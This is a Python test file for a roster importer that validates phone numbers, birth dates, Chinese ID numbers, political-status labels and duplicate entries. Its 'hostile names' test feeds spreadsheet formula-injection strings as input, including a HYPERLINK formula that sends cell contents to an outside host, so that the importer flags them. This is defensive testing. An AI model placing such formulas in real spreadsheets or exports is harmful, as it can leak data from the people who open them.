"""Rosters: phones, dates, numbers, hostile names, doubles."""

from __future__ import annotations

from datetime import date

import pytest

from domain.member_status import MemberStatus, member_status
from domain.roster import Fate, LineProblem, fate
from tests.domain.rosters import one, roster

# ------------------------------------------------------------------ values


@pytest.mark.parametrize(
    ("text", "phone"),
    [
        ("13800000000", "13800000000"),
        ("+86 138-0000-0000", "13800000000"),
        ("0086 13800000000", "13800000000"),
        ("１３８００００００００", "13800000000"),
        ("'13800000000", "13800000000"),
        ("13800000000.0", "13800000000"),
        ("12800000000", None),
        ("1380000000", None),
        ("138000000000", None),
        ("010-12345678", None),
        ("13800000000/13900000000", None),
        ("+1 13800000000", None),
        ("١٣٨٠٠٠٠٠٠٠٠", None),
        ("-13800000000", "13800000000"),
    ],
)
def test_phone(text: str, phone: str | None) -> None:
    line = one("姓名|手机", f"张三|{text}")
    assert line.phone == phone
    assert line.problem is (None if phone else LineProblem.PHONE_UNREADABLE)


@pytest.mark.parametrize("text", ["1.38E+10", "1.38e10"])
def test_excel_ate_the_phone(text: str) -> None:
    assert one("姓名|手机", f"张三|{text}").problem is LineProblem.DIGITS_LOST


def test_excel_ate_the_number() -> None:
    assert one("姓名|学号", "张三|2.02301E+15").problem is LineProblem.DIGITS_LOST
    assert one("姓名|学号", "张三|2023E01").number == "2023E01"


@pytest.mark.parametrize(
    "text",
    [
        "2008-03-05", "2008-3-5", "2008/3/5", "2008.3.5", "2008年3月5日", "2008 年 3 月 5 日",
        "20080305", "２００８－０３－０５", "2008-03-05 00:00:00", "2008年03月05号", "20080305.0",
    ],
)  # fmt: skip
def test_birth_date(text: str) -> None:
    line = one("姓名|出生日期", f"张三|{text}")
    assert (line.birth_date, line.problem) == (date(2008, 3, 5), None)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("2008.3", LineProblem.BIRTH_DATE_NEEDS_DAY),
        ("2008年3月", LineProblem.BIRTH_DATE_NEEDS_DAY),
        ("2008-03", LineProblem.BIRTH_DATE_NEEDS_DAY),
        ("200803", LineProblem.BIRTH_DATE_NEEDS_DAY),
        ("2008", LineProblem.BIRTH_DATE_NEEDS_DAY),
        ("2008-13-01", LineProblem.BIRTH_DATE_UNREADABLE),
        ("2007-02-29", LineProblem.BIRTH_DATE_UNREADABLE),
        ("3/5/2008", LineProblem.BIRTH_DATE_UNREADABLE),
        ("08.3.5", LineProblem.BIRTH_DATE_UNREADABLE),
        ("39512", LineProblem.BIRTH_DATE_UNREADABLE),
        ("0000-00-00", LineProblem.BIRTH_DATE_UNREADABLE),
        ("2026-11-23", LineProblem.BIRTH_DATE_IN_FUTURE),
        ("1905-01-01", LineProblem.BIRTH_DATE_TOO_OLD),
        ("2012-11-23", LineProblem.UNDER_14),
        ("2026-11-22", LineProblem.UNDER_14),
    ],
)
def test_birth_date_problems(text: str, problem: LineProblem) -> None:
    assert one("姓名|出生日期", f"张三|{text}").problem is problem


def test_fourteen_on_the_day_is_not_under_14() -> None:
    assert one("姓名|出生日期", "张三|2012-11-22").problem is None


def test_id_number() -> None:
    good = one("姓名|身份证号", "张三|11010119900307803x")
    assert (good.id_number, good.problem) == ("11010119900307803X", None)
    for bad in ("110101199003078031", "11010119901307803X", "1101011990030780", "110101900307803"):
        line = one("姓名|身份证号", f"张三|{bad}")
        assert (line.id_number, line.problem) == (None, LineProblem.ID_NUMBER_UNREADABLE)
    lost = one("姓名|身份证号", "张三|1.10101E+17")
    assert lost.problem is LineProblem.DIGITS_LOST


def test_id_number_and_birth_date() -> None:
    header = "姓名|出生日期|身份证号"
    assert one(header, "张三|1990-03-07|11010119900307803X").problem is None
    other = one(header, "张三|1990-03-08|11010119900307803X")
    assert other.problem is LineProblem.ID_NUMBER_DISAGREES
    month = one(header, "张三|1990.3|11010119900307803X")
    assert (month.birth_date, month.problem) == (date(1990, 3, 7), None)
    year = one(header, "张三|1991|11010119900307803X")
    assert year.problem is LineProblem.ID_NUMBER_DISAGREES


@pytest.mark.parametrize(
    ("word", "status"),
    [
        ("共青团员", MemberStatus.LEAGUE_MEMBER),
        ("团员", MemberStatus.LEAGUE_MEMBER),
        ("入团积极分子", MemberStatus.ACTIVIST),
        ("积极分子", MemberStatus.ACTIVIST),
        ("入团申请人", MemberStatus.APPLICANT),
        ("群众", MemberStatus.YOUTH),
        ("青年", MemberStatus.YOUTH),
        ("中共党员", MemberStatus.PARTY_MEMBER),
        ("中共预备党员", MemberStatus.PARTY_MEMBER),
        ("少先队员", MemberStatus.PIONEER),
        ("League Member", MemberStatus.LEAGUE_MEMBER),
        ("party_member", MemberStatus.PARTY_MEMBER),
        ("入党积极分子", None),
        ("officer", None),
    ],
)
def test_member_status(word: str, status: MemberStatus | None) -> None:
    assert member_status(word) is status
    line = one("姓名|政治面貌", f"张三|{word}")
    assert line.member_status is status
    assert line.problem is (None if status else LineProblem.MEMBER_STATUS_UNKNOWN)


def test_every_member_status_reads_its_own_value() -> None:
    assert [member_status(status.value) for status in MemberStatus] == list(MemberStatus)


def test_unit_by_name_or_code() -> None:
    assert one("姓名|班级", "张三|高一3班").unit == "高一3班"
    coded = one("姓名|unit", "张三|B-01")
    assert (coded.unit_code, coded.unit_name) == ("B-01", None)
    both = one("姓名|支部|支部代码", "张三|高一3班|B01")
    assert (both.unit_code, both.unit_name, both.unit) == ("B01", "高一3班", "B01")
    assert one("姓名|班级", "张三|" + "班" * 61).problem is LineProblem.UNIT_UNREADABLE


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("管理员", LineProblem.NAME_LOOKS_OFFICIAL),
        ("a\x00b", LineProblem.NAME_UNPRINTABLE),
        ("=1+1", LineProblem.NAME_WITHOUT_LETTER),
        ("王" * 41, LineProblem.NAME_TOO_LONG),
        ('=HYPERLINK("http://x/"&A1,"ok")', LineProblem.NAME_UNUSUAL),
        ("@SUM(A1)", LineProblem.NAME_UNUSUAL),
        ("＝cmd", LineProblem.NAME_UNUSUAL),
    ],
)
def test_hostile_names(name: str, problem: LineProblem) -> None:
    assert one("姓名|学号", f"{name}|1001").problem is problem


# ------------------------------------------------------------------ doubles


def test_doubles_ask() -> None:
    read = roster(
        "姓名|学号|班级\n张三|a1|\n李四|A1|\n王五|2|\n王五|3|\n赵六||\n赵六|4|\n孙七||一班\n孙七||二班"
    )
    assert [x.problem for x in read.lines] == [
        LineProblem.DUPLICATE_NUMBER, LineProblem.DUPLICATE_NUMBER, None, None,
        LineProblem.SAME_NAME_TWICE, None, None, None,  # 赵六 4 can be told apart
    ]  # fmt: skip
    bare = roster("姓名|学号\n赵六|\n赵六|")
    assert {x.problem for x in bare.lines} == {LineProblem.SAME_NAME_TWICE}


def test_a_repeated_line_counts_once() -> None:
    read = roster("姓名|学号|手机\n张三|a1|\n张三|A1|\n李四||13800000000\n李四||13800000000")
    found = [(x.problem, fate(x, ()).fate) for x in read.lines]
    assert found == [(None, Fate.NEW), (LineProblem.REPEATED, Fate.SAME)] * 2
    differs = roster("姓名|学号|手机\n张三|1|\n张三|1|13800000000")
    assert {x.problem for x in differs.lines} == {LineProblem.DUPLICATE_NUMBER}


def test_a_wrong_line_stays_wrong_though_it_is_double() -> None:
    read = roster("姓名|学号|手机\n张三|1|123\n李四|1|")
    assert [x.problem for x in read.lines] == [
        LineProblem.PHONE_UNREADABLE,
        LineProblem.DUPLICATE_NUMBER,
    ]
